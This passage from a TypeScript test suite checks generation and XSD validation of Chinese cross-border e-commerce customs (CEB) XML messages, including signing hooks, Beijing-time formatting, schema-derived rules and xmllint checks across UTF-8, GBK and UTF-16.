    expect(issuesOf(m)).toEqual([{ field: 'Signature', rule: 'required' }]);
  });

  it('hands the finished document to the signer and returns what it signs', async () => {
    const seen: string[] = [];
    const signer: Signer = { sign: async (xml) => (seen.push(xml), new SchemaShapedPlaceholderSigner().sign(xml)) };
    const r = await generateCeb711(INPUT_711, { signer, now: NOW });
    if (!r.ok) throw new Error('expected ok');
    expect(seen).toHaveLength(1);
    expect(seen[0]).not.toContain('Signature');
    expect(validateCeb(parsed(r.xml))).toEqual([]);
  });

  it('UnsignedNoopSigner returns the XML unchanged and says it does not sign', async () => {
    const s = new UnsignedNoopSigner();
    expect(await s.sign('<a/>')).toBe('<a/>');
    expect(s.signs).toBe(false);
  });

  it('is reproducible with an injected clock and guid source', async () => {
    const opts = (): Parameters<typeof generateCeb507>[1] => ({ signer: new UnsignedNoopSigner(), now: NOW, newGuid: (() => { let n = 0; return () => `${String(++n).padStart(8, '0')}-1111-4222-8333-444444444444`; })() });
    const a = await generateCeb507(INPUT_507, opts());
    const b = await generateCeb507(INPUT_507, opts());
    expect(a).toEqual(b);
  });

  it('CEB507 and CEB509 are valid, with leaveTime in Beijing time', async () => {
    const a = await generateCeb507(INPUT_507, { signer: new UnsignedNoopSigner(), now: NOW, newGuid: fixedGuid });
    const d = await generateCeb509(INPUT_509, { signer: new UnsignedNoopSigner(), now: NOW, newGuid: fixedGuid });
    if (!a.ok || !d.ok) throw new Error('expected ok');
    expect(validateCeb(parsed(a.xml))).toEqual([]);
    const m = parsed(d.xml);
    expect(validateCeb(m)).toEqual([]);
    expect(at(m.root, 'Departure.DepartureHead.leaveTime').text).toBe('20240729090000');
    expect(at(parsed(a.xml).root, 'Arrival.ArrivalHead.domesticTrafNo').text).toBe('浙G·A1234');
  });

  it('formatCebTime is Beijing time whatever the host time zone', () => {
    expect(formatCebTime(new Date('2024-12-31T16:00:00Z'))).toBe('20250101000000');
  });

  it('returns input issues by input field and XSD issues by CEB path, never a half-built message', async () => {
    const bad = await generateCeb509({ ...INPUT_509, logisticsCode: '', list: [] }, { signer: new UnsignedNoopSigner() });
    expect(bad.ok ? [] : bad.issues.map((i) => i.field)).toEqual(['logisticsCode', 'list']);
    const tooLong = await generateCeb509({ ...INPUT_509, copNo: 'C'.repeat(31), customsCode: '29245', list: [{ logisticsNo: 'L'.repeat(33) }] }, { signer: new UnsignedNoopSigner() });
    expect(tooLong.ok ? [] : tooLong.issues).toEqual([
      { field: 'Departure[0].DepartureHead.customsCode', rule: 'length', message: 'expected exactly 4 characters, got 5' },
      { field: 'Departure[0].DepartureHead.copNo', rule: 'maxLength', message: 'expected at most 30 characters, got 31' },
      { field: 'Departure[0].DepartureList[0].logisticsNo', rule: 'maxLength', message: 'expected at most 32 characters, got 33' },
    ]);
    const control = await generateCeb711({ ...INPUT_711, billNo: 'MAWB\u0000784' }, { signer: new UnsignedNoopSigner() });
    expect(control.ok ? [] : control.issues.map((i) => i.field)).toEqual(['billNo']);
  });
});

// ---- rules derived from the XSDs ----

function findParticle(particles: Particle[], name: string): Particle | undefined {
  return particles.find((p) => p.name === name);
}
function seqOf(c: Content | undefined): Particle[] {
  return c?.kind === 'sequence' ? c.sequence : [];
}

describe('the rule table', () => {
  const imp = CEB_XSD_RULES['import-business.xsd'];
  const exp = CEB_XSD_RULES['export-business.xsd'];

  it('carries the XSD structure, cardinalities and facets', () => {
    const order = findParticle(imp.messages.CEB311!.sequence, 'Order')!;
    expect(order.max).toBe(100);
    expect(findParticle(seqOf(order.content), 'OrderList')).toMatchObject({ min: 1, max: 99 });
    expect(findParticle(seqOf(imp.elements.OrderHead), 'acturalPaid')?.content).toEqual({ kind: 'value', rule: { base: 'decimal', totalDigits: 19, fractionDigits: 5 } });
    expect(findParticle(imp.messages.CEB711!.sequence, 'Signature')).toMatchObject({ ns: 'ds', min: 1 });
    expect(findParticle(seqOf(exp.elements.Logistics), 'logisticsNo')?.content).toEqual({ kind: 'value', rule: { base: 'string', maxLength: 32 } });
    expect(findParticle(seqOf(imp.elements.OrderList), 'currency')?.content).toMatchObject({ rule: { length: 3, fixed: '142' } });
    expect(findParticle(seqOf(exp.elements.InventoryHead), 'fFlag')?.content).toMatchObject({ rule: { fixed: '3' } });
  });

  it('reads formats, enumerations and upper case from the documentation, apart from the facets', () => {
    expect(findParticle(seqOf(exp.elements.DepartureHead), 'leaveTime')?.content).toMatchObject({ rule: { documented: { format: 'datetime14' } } });
    expect(findParticle(seqOf(imp.elements.OrderReturn), 'returnTime')?.content).toMatchObject({ rule: { documented: { format: 'datetime17' } } });
    expect(findParticle(seqOf(exp.elements.OrderHead), 'orderType')?.content).toMatchObject({ rule: { documented: { enumeration: ['I', 'E', 'B', 'W'] } } });
    expect(findParticle(seqOf(imp.elements.InventoryHead), 'country')?.content).not.toHaveProperty('rule.documented'); // points at a code table
    expect(findParticle(seqOf(imp.elements.BaseTransfer), 'dxpMode')?.content).toMatchObject({ rule: { documented: { enumeration: ['DXP'] } } });
    expect(findParticle(seqOf(imp.elements.DeliveryHead), 'guid')?.content).toMatchObject({ rule: { length: 36, documented: { uppercase: true } } });
    // No rule read from the documentation is a facet: a facet refuses, these only warn.
    const facetEnums = JSON.stringify(CEB_XSD_RULES).match(/"enumeration":/g)?.length ?? 0;
    const documentedEnums = JSON.stringify(CEB_XSD_RULES).match(/"documented":\{[^}]*"enumeration":/g)?.length ?? 0;
    expect(facetEnums).toBe(documentedEnums);
  });

  it('the generator refuses XSD constructs the model cannot express', () => {
    const xsd = `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:ceb="${CEB_NS}" targetNamespace="${CEB_NS}">
      <xs:element name="X"><xs:complexType><xs:choice><xs:element name="a" type="xs:string"/></xs:choice></xs:complexType></xs:element></xs:schema>`;
    expect(() => deriveXsdRules(xsd, 'test.xsd')).toThrow(/xs:sequence/);
    const pattern = xsd.replace('<xs:choice><xs:element name="a" type="xs:string"/></xs:choice>', '<xs:sequence><xs:element name="a"><xs:simpleType><xs:restriction base="xs:string"><xs:pattern value="[0-9]+"/></xs:restriction></xs:simpleType></xs:element></xs:sequence>');
    expect(() => deriveXsdRules(pattern, 'test.xsd')).toThrow(/xs:pattern/);
  });

  const xsdDir = cebXsdDir();
  describe.skipIf(!requireService(`the official CEB XSDs (${xsdDir}; set CEB_XSD_DIR)`, existsSync(join(xsdDir, 'import-business.xsd'))))('against the official XSD files', () => {
    it('rules.generated.ts is exactly what the XSDs give (regenerate with gen-rules.ts)', async () => {
      expect(await renderFromXsdDir(xsdDir)).toBe(await readFile(GENERATED_RULES_FILE, 'utf8'));
    });
  });
});

// ---- the official XSD through a real schema validator ----

async function xmllintAvailable(): Promise<boolean> {
  try {
    await run('xmllint', ['--version']);
    return true;
  } catch {
    return false;
  }
}

const xsdDir = cebXsdDir();
const canLint = (await xmllintAvailable()) && existsSync(join(xsdDir, 'import-business.xsd'));
describe.skipIf(!requireService('xmllint with the official CEB XSDs (apt-get install libxml2-utils; XSDs in hub/customs/ceb/xsd or CEB_XSD_DIR)', canLint))('xmllint against the official XSDs', () => {
  let dir = '';
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'ceb-xsd-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  /** Validate documents in one xmllint run per XSD (offline: --nonet; the xmldsig import is a local file). */
  const lint = (xsd: string, docs: Record<string, string>) => lintBytes(xsd, Object.fromEntries(Object.entries(docs).map(([name, xml]) => [name, Buffer.from(xml)])));

  async function lintBytes(xsd: string, docs: Record<string, Uint8Array>): Promise<Record<string, boolean>> {
    const files = await Promise.all(Object.entries(docs).map(async ([name, bytes]) => {
      const file = join(dir, `${name}.xml`);
      await writeFile(file, bytes);
      return [name, file] as const;
    }));
    const out = await run('xmllint', ['--noout', '--nonet', '--schema', join(xsdDir, xsd), ...files.map(([, f]) => f)]).then(
      (r) => r.stderr,
      (e: { stderr?: string }) => e.stderr ?? '',
    );
    return Object.fromEntries(files.map(([name, file]) => [name, out.includes(`${file} validates`)]));
  }

  it('accepts every sample message', async () => {
    for (const xsd of ['import-business.xsd', 'export-business.xsd'] as const) {
      const types = FIXTURE_TYPES.filter((t) => CEB_MESSAGE_XSD[t] === xsd);
      const result = await lint(xsd, Object.fromEntries(types.map((t) => [t, fixtureXml(t)])));
      expect(result).toEqual(Object.fromEntries(types.map((t) => [t, true])));
    }
  });

  it('accepts the same message as UTF-8, GBK, GB18030 and UTF-16 (issue 15 item 3), as the hub does', async () => {
    const xml = fixtureXml('CEB311');
    const as = (label: string) => xml.replace('encoding="UTF-8"', `encoding="${label}"`);
    const files = { utf8: Buffer.from(as('UTF-8')), gbk: encodeGbk(as('GBK')), gb18030: encodeGbk(as('GB18030')), utf16: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(as('UTF-16'), 'utf16le')]) };
    const result = await lintBytes('import-business.xsd', files);
    expect(result).toEqual({ utf8: true, gbk: true, gb18030: true, utf16: true });
    for (const [name, bytes] of Object.entries(files)) expect(at(parsed(bytes).root, 'Order.OrderHead.buyerName').text, name).toBe('张伟');
  });

  it('accepts the generated CEB711 (placeholder-signed), CEB507 and CEB509, and rejects an unsigned CEB711', async () => {
    const opts = { now: NOW };
    const g711 = await generateCeb711(INPUT_711, { ...opts, signer: new SchemaShapedPlaceholderSigner() });
    const u711 = await generateCeb711(INPUT_711, { ...opts, signer: new UnsignedNoopSigner() });
    const g507 = await generateCeb507(INPUT_507, { ...opts, signer: new UnsignedNoopSigner() });
    const g509 = await generateCeb509(INPUT_509, { ...opts, signer: new UnsignedNoopSigner() });
    if (!g711.ok || !u711.ok || !g507.ok || !g509.ok) throw new Error('expected ok');
    expect(await lint('import-business.xsd', { g711: g711.xml, u711: u711.xml })).toEqual({ g711: true, u711: false });
    expect(await lint('export-business.xsd', { g507: g507.xml, g509: g509.xml })).toEqual({ g507: true, g509: true });
  });

  it('rejects what validateCeb rejects by XSD facet, and accepts what only the documentation rules out', async () => {
    const variant = (type: FixtureType, mutate: (r: XmlElement) => void): string => {
      const m = parsed(fixtureXml(type));
      mutate(m.root);
      return serializeXml(m.root, { [CEB_NS]: 'ceb', [DS_NS]: 'ds' });
    };
    const byFacet = {
      required: variant('CEB311', (r) => remove(r, 'Order.OrderHead.orderNo')),
      maxLength: variant('CEB311', (r) => void (at(r, 'Order.OrderHead.orderNo').text = 'N'.repeat(61))),
      length: variant('CEB621', (r) => void (at(r, 'Inventory.InventoryList.gcode').text = '19011010')),
      decimal: variant('CEB311', (r) => void (at(r, 'Order.OrderHead.acturalPaid').text = '12,5')),
      fraction: variant('CEB311', (r) => void (at(r, 'Order.OrderList[1].price').text = '139.000001')),
      maxOccurs: variant('CEB311', (r) => at(r, 'Order').children.push(...Array.from({ length: 98 }, () => structuredClone(at(r, 'Order.OrderList'))))),
      order: variant('CEB311', (r) => moveBefore(r, 'Order.OrderHead.acturalPaid', 'Order.OrderHead.goodsValue')),
      signature: variant('CEB621', (r) => remove(r, 'Signature')),
      fixed: variant('CEB311', (r) => void (at(r, 'Order.OrderHead.currency').text = '502')),
      emptyFixed: variant('CEB311', (r) => void (at(r, 'Order.OrderHead.currency').text = '')),
      roundTrip: variant('CEB621', () => undefined),
    };
    expect(await lint('import-business.xsd', byFacet)).toEqual({
      required: false, maxLength: false, length: false, decimal: false, fraction: false, maxOccurs: false, order: false, signature: false, fixed: false,
      emptyFixed: true, roundTrip: true,
    });
    const byDocumentation = {
      format: variant('CEB311', (r) => void (at(r, 'Order.OrderHead.appTime').text = '20240230101530')),
      enumeration: variant('CEB311', (r) => void (at(r, 'Order.OrderHead.appType').text = '9')),
      uppercase: variant('CEB311', (r) => void (at(r, 'Order.OrderHead.guid').text = at(r, 'Order.OrderHead.guid').text.toLowerCase())),
    };
    expect(await lint('import-business.xsd', byDocumentation)).toEqual({ format: true, enumeration: true, uppercase: true });
    // Issue 15 item 1: the values real messages carry that the old intake refused all validate; the hub keeps them, warned.
    const realValues = {
      packNo3: variant('CEB511', (r) => void (at(r, 'Logistics.LogisticsHead.packNo').text = '3')),
      lowerGuid: variant('CEB621', (r) => void (r.attrs.guid = r.attrs.guid!.toLowerCase())),
      invtNoOtherShape: variant('CEB622', (r) => void (at(r, 'InventoryReturn.invtNo').text = '516520241000123456')),
    };
    expect(await lint('import-business.xsd', realValues)).toEqual({ packNo3: true, lowerGuid: true, invtNoOtherShape: true });
    for (const [name, xml] of Object.entries(realValues)) expect(checkCeb(parsed(xml)), name).toMatchObject({ issues: [] });
    const exportValues = { statisticsFlagC: variant('CEB604', (r) => void (at(r, 'InventoryReturn.statisticsFlag').text = 'C')) };
    expect(await lint('export-business.xsd', exportValues)).toEqual({ statisticsFlagC: true });
    expect(checkCeb(parsed(exportValues.statisticsFlagC)).issues).toEqual([]);
    expect(placeholderSignatureXml()).toContain('not-a-signature');
  });
});
